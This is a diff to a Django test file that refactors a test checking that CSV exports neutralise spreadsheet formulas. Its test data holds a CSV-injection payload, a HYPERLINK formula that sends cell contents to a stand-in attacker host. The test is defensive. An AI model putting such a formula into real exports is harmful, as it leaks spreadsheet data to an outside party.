@@ -113,18 +113,8 @@ def test_interviewer_transcript_and_exports_show_the_answer_as_text(finished_ses
 
 
 @pytest.mark.django_db
-def test_csv_export_neutralises_spreadsheet_formulas(candidate, make_question, staff_client):
-    question = make_question("docker", 1)
-    session = practice_session_create(
-        candidate=candidate,
-        topics=[question.topic],
-        count=1,
-        level="expert",
-        per_item_seconds=None,
-        total_seconds=None,
-        feedback_mode="after_each",
-    )
-    item = session_start(session=session)
+def test_csv_export_neutralises_spreadsheet_formulas(candidate, start_practice, staff_client):
+    session, item = start_practice()
     client = Client()
     client.force_login(candidate)
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
